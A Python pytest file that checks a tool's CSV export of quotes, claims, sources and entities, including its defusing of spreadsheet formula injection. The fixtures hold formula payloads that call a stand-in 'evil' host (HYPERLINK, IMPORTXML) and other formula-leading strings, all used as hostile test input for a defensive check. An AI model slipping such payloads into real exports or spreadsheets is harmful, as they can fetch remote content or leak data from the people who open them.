"""The listings as CSV for spreadsheets: each parses back with its header and one row per record
(per mention for claims), honours the listing's filters, reads the same from the store and from
dossier.json, and never hands a spreadsheet a formula taken from a hostile page."""

import csv
import io
import json
from pathlib import Path
from typing import Any

import pytest
from tiny_dossier import DISPUTED_CLAIMS, write_disputed_dossier
from typer.testing import CliRunner

from hearsay import export_csv
from hearsay.cli import app
from hearsay.models import (
    Attribution,
    ClaimCluster,
    Contradiction,
    Document,
    Entity,
    EntityMention,
    SourceProfile,
)
from hearsay.store import Store

runner = CliRunner()
FORMULA = '=HYPERLINK("http://evil","x")'
MULTI_LINE = 'We will not leave.\nNot this year, "not ever", she said; nor next.'
FORMULA_TITLE = '@IMPORTXML("http://evil", "//a")'


def _attribution(document: dict[str, Any], content: str, **fields: Any) -> dict[str, Any]:
    start = document["text"].index(content)
    record = Attribution(
        id=Attribution.make_id(document["id"], start, start + len(content)),
        document_id=document["id"],
        content={"text": content, "start": start, "end": start + len(content)},
        **fields,
    )
    return record.model_dump()


def _hostile_dossier(folder: Path) -> dict[str, Any]:
    """The disputed tiny dossier with quotes (one multi-line, one a formula), a formula for a
    document title, a claim, a mention, a source and an entity name, and a claim no one
    mentions."""
    path = write_disputed_dossier(folder) / "dossier.json"
    dossier = json.loads(path.read_text(encoding="utf-8"))
    first, second = dossier["documents"]
    first["text"] = f"“{MULTI_LINE}” Orin Vale said, reportedly, via Reuters."
    second.update(text=f"@evil wrote: {FORMULA}", title=FORMULA_TITLE)
    vale = first["text"].index("Orin Vale")
    dossier["attributions"] = [
        _attribution(
            first, MULTI_LINE, kind="direct",
            speaker={"text": "Orin Vale", "start": vale, "end": vale + 9, "entity_id": "e1"},
            cue={"text": "said", "start": vale + 10, "end": vale + 14},
            via=[{"text": "Reuters"}, {"text": "a diplomat", "anonymous": True}],
            hedges=[{"text": "reportedly", "start": vale + 16, "end": vale + 26}],
            date="2024-05-01", channel="in a statement", addressee={"text": "reporters"},
            confidence=0.91,
        ),
        _attribution(
            second, FORMULA, kind="direct",
            speaker={"text": "@evil", "start": 0, "end": 5},
            cue={"text": "wrote", "start": 6, "end": 11, "lean": "asserting"},
        ),
    ]
    dossier["claims"] = [
        *DISPUTED_CLAIMS,
        {"id": "k6", "text": "+1 dead at the dam", "mentions": [
            {"document_id": "d2", "start": 0, "end": 9, "text": "-5 killed", "stance": "asserts",
             "speaker": "=cmd", "via": ["Reuters", "a diplomat"], "attribution_id": "a9"}]},
        {"id": "k7", "text": "No one says this.", "mentions": []},
    ]
    dossier["contradictions"].append(
        {"id": "x2", "claim_id": "k1", "kind": "opposite_stance", "explanation": "@SUM(1)",
         "a": {"document_id": "d1", "start": 0, "end": 4, "text": "The dam was sabotaged.",
               "stance": "asserts"},
         "b": {"document_id": "d2", "start": 0, "end": 5, "text": "-denied", "stance": "disputes"}},
    )
    dossier["sources"].append(
        {"id": "s3", "name": "-Front Daily", "kind": "outlet", "asserts": ["k6", "k4"],
         "relays": [], "disputes": ["k1"], "questions": []},
    )
    dossier["entities"].insert(0, (  # most mentioned first, as a build lists them
        {"id": "e2", "name": "=Kessa Front", "type": "ORG", "aliases": ["=Kessa Front", "KF"],
         "roles": ["militia", "party"], "mentions": [
             {"document_id": "d1", "start": 0, "end": 2, "text": "KF"},
             {"document_id": "d1", "start": 5, "end": 7, "text": "KF"},
             {"document_id": "d2", "start": 0, "end": 2, "text": "KF"}]}
    ))
    path.write_text(json.dumps(dossier), encoding="utf-8")
    return dossier


def _store_of(dossier: dict[str, Any], folder: Path) -> Path:
    """The same dossier written into a store (hearsay.db), as a build would hold it."""
    with Store.open(folder) as store:
        for document in dossier["documents"]:
            mentions = [
                EntityMention(**m, type=e["type"], canonical=e["name"], entity_id=e["id"])
                for e in dossier["entities"] for m in e["mentions"]
                if m["document_id"] == document["id"]
            ]
            attributions = [Attribution.model_validate(a) for a in dossier["attributions"]
                            if a["document_id"] == document["id"]]
            store.save_analysis(Document.model_validate(document), mentions, attributions)
        store.replace_entities(
            [Entity.model_validate({k: v for k, v in e.items() if k != "mentions"})
             for e in dossier["entities"]],
            [],
        )
        for kind, model in (("claims", ClaimCluster), ("contradictions", Contradiction),
                            ("sources", SourceProfile)):
            store.replace_corpus_records(kind, [model.model_validate(r) for r in dossier[kind]])
    return folder


@pytest.fixture
def dossiers(tmp_path: Path) -> tuple[Path, Path]:
    """The hostile dossier as dossier.json alone, and as a store."""
    json_dir, store_dir = tmp_path / "json", tmp_path / "store"
    json_dir.mkdir()
    return json_dir, _store_of(_hostile_dossier(json_dir), store_dir)


def _csv(*args: str) -> list[list[str]]:
    result = runner.invoke(app, list(args))
    assert result.exit_code == 0, result.output
    assert not result.stdout.startswith("\ufeff")  # stdout is for pipes: no BOM
    return list(csv.reader(io.StringIO(result.stdout, newline="")))


def _json(*args: str) -> list[dict[str, Any]]:
    result = runner.invoke(app, [*args, "--json"])
    assert result.exit_code == 0, result.output
    records: list[dict[str, Any]] = json.loads(result.stdout)
    return records


def _keys(command: str, record: dict[str, Any]) -> list[str]:
    """The first cell of each row a JSON record should give: one row per record, per claim
    mention, per source's stance on a claim; a claim or source with none keeps one row."""
    if command == "claims":
        return [record["id"]] * max(1, len(record["mentions"]))
    if command == "sources":
        count = sum(len(record[stance]) for stance in ("asserts", "relays", "disputes",
                                                        "questions"))
        return [record["id"]] * max(1, count)
    return [record["id"]]


COLUMNS = {
    "quotes": export_csv.QUOTE_COLUMNS, "claims": export_csv.CLAIM_COLUMNS,
    "contradictions": export_csv.CONTRADICTION_COLUMNS, "sources": export_csv.SOURCE_COLUMNS,
    "entities": export_csv.ENTITY_COLUMNS,
}
COMMANDS = [
    ["quotes"], ["quotes", "--speaker", "vale"], ["quotes", "--speaker", "diplomat"],
    ["quotes", "--document", "d2"], ["quotes", "--speaker", "nobody"],
    ["claims"], ["claims", "--min-mentions", "0"], ["claims", "--min-mentions", "2"],
    ["claims", "--about", "dam"], ["claims", "--stance", "disputes"], ["claims", "--contested"],
    ["contradictions"], ["contradictions", "--claim", "k1"],
    ["sources"], ["sources", "--kind", "speaker"], ["sources", "--name", "front"],
    ["entities"], ["entities", "--type", "org"],
]


@pytest.mark.parametrize("command", COMMANDS, ids=" ".join)
def test_each_listing_is_the_json_listing_row_for_row(
    dossiers: tuple[Path, Path], command: list[str]
) -> None:
    json_dir, store_dir = dossiers
    name, *filters = command
    header, *rows = _csv(name, str(json_dir), *filters, "--csv")
    assert tuple(header) == COLUMNS[name]
    assert all(len(row) == len(header) for row in rows)
    records = _json(name, str(json_dir), *filters)
    assert [row[0] for row in rows] == [k for r in records for k in _keys(name, r)]
    assert _csv(name, str(store_dir), *filters, "--csv") == [header, *rows]


def test_filters_change_what_is_listed(dossiers: tuple[Path, Path]) -> None:
    json_dir, _ = dossiers

    def column(name: str, *args: str) -> list[str]:
        header, *rows = _csv(*args, "--csv")
        return [row[header.index(name)] for row in rows]

    assert column("speaker", "quotes", str(json_dir)) == ["Orin Vale", "'@evil"]
    assert column("speaker", "quotes", str(json_dir), "--speaker", "reuters") == ["Orin Vale"]
    assert column("stance", "claims", str(json_dir), "--stance", "disputes") == [
        "asserts", "disputes"  # the claim k1, each of its mentions
    ]
    assert column("claim_id", "claims", str(json_dir), "--contested") == ["k4"] * 3 + ["k1"] * 2
    assert column("name", "entities", str(json_dir), "--type", "person") == ["Orin Vale"]
    assert column("source", "sources", str(json_dir), "--kind", "speaker") == ["Orin Vale"]


def test_a_quote_row_keeps_its_speaker_chain_hedges_and_offsets(
    dossiers: tuple[Path, Path],
) -> None:
    json_dir, _ = dossiers
    header, vale, _ = _csv("quotes", str(json_dir), "--csv")
    row = dict(zip(header, vale, strict=True))
    dossier = json.loads((json_dir / "dossier.json").read_text(encoding="utf-8"))
    text = dossier["documents"][0]["text"]
    assert row["text"] == MULTI_LINE  # the line break and the quotes survive the round trip
    assert text[int(row["start"]) : int(row["end"])] == row["text"]
    assert (row["speaker"], row["speaker_entity_id"], row["cue"]) == ("Orin Vale", "e1", "said")
    assert (row["via"], row["hedges"]) == ("Reuters → a diplomat", "reportedly")
    assert (row["date"], row["channel"], row["addressee"]) == (
        "2024-05-01", "in a statement", "reporters"
    )
    assert (row["cue_negated"], row["confidence"]) == ("false", "0.91")


def test_no_cell_starts_a_formula_whatever_the_page_wrote(dossiers: tuple[Path, Path]) -> None:
    json_dir, _ = dossiers
    every_claim = {"claims": ["--min-mentions", "0"]}
    cells = {
        name: [cell for row in _csv(name, str(json_dir), *every_claim.get(name, []), "--csv")
               for cell in row]
        for name in COLUMNS
    }
    everything = [cell for found in cells.values() for cell in found]
    assert not [c for c in everything if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
    assert "'" + FORMULA in cells["quotes"] and "'@evil" in cells["quotes"]
    assert "'" + FORMULA_TITLE in cells["quotes"]  # the document's title
    assert {"'+1 dead at the dam", "'-5 killed", "'=cmd"} <= set(cells["claims"])
    assert {"'@SUM(1)", "'-denied"} <= set(cells["contradictions"])
    assert {"'-Front Daily", "'+1 dead at the dam"} <= set(cells["sources"])
    assert "'=Kessa Front" in cells["entities"]


@pytest.mark.parametrize(
    ("text", "written"),
    [
        (FORMULA, "'" + FORMULA),
        ("  =1+1", "'  =1+1"),  # spaces first: some spreadsheets skip them
        ("\t@x", "'\t@x"),
        ("\rplain", "'\rplain"),
        ("-", "'-"),
        ("a = b + c", "a = b + c"),
        ("'quoted", "'quoted"),
        ("", ""),
    ],
)
def test_a_text_is_defused_only_when_it_starts_like_a_formula(text: str, written: str) -> None:
    assert export_csv.defuse(text) == written


def test_csv_and_json_together_is_a_usage_error(dossiers: tuple[Path, Path]) -> None:
    json_dir, _ = dossiers
    for name in COLUMNS:
        result = runner.invoke(app, [name, str(json_dir), "--csv", "--json"])
        assert result.exit_code == 2, (name, result.output)
        assert isinstance(result.exception, SystemExit)  # a message, not a traceback
        message = " ".join(result.output.replace("│", " ").split())
        assert "one format at a time: --csv or --json" in message
    no_format = runner.invoke(app, ["quotes", str(json_dir), "--out", str(json_dir / "q.csv")])
    assert no_format.exit_code == 2 and not (json_dir / "q.csv").exists()


def test_out_writes_the_same_rows_with_a_bom_for_excel(
    dossiers: tuple[Path, Path], tmp_path: Path
) -> None:
    json_dir, _ = dossiers
    path = tmp_path / "quotes.csv"
    result = runner.invoke(app, ["quotes", str(json_dir), "--csv", "--out", str(path)])
    assert result.exit_code == 0, result.output
    assert result.stdout == ""
    assert path.read_bytes().startswith(b"\xef\xbb\xbf")
    with path.open(encoding="utf-8-sig", newline="") as file:
        assert list(csv.reader(file)) == _csv("quotes", str(json_dir), "--csv")
    missing = runner.invoke(
        app, ["quotes", str(json_dir), "--csv", "--out", str(tmp_path / "no" / "q.csv")]
    )
    assert missing.exit_code == 1 and "cannot write" in missing.output
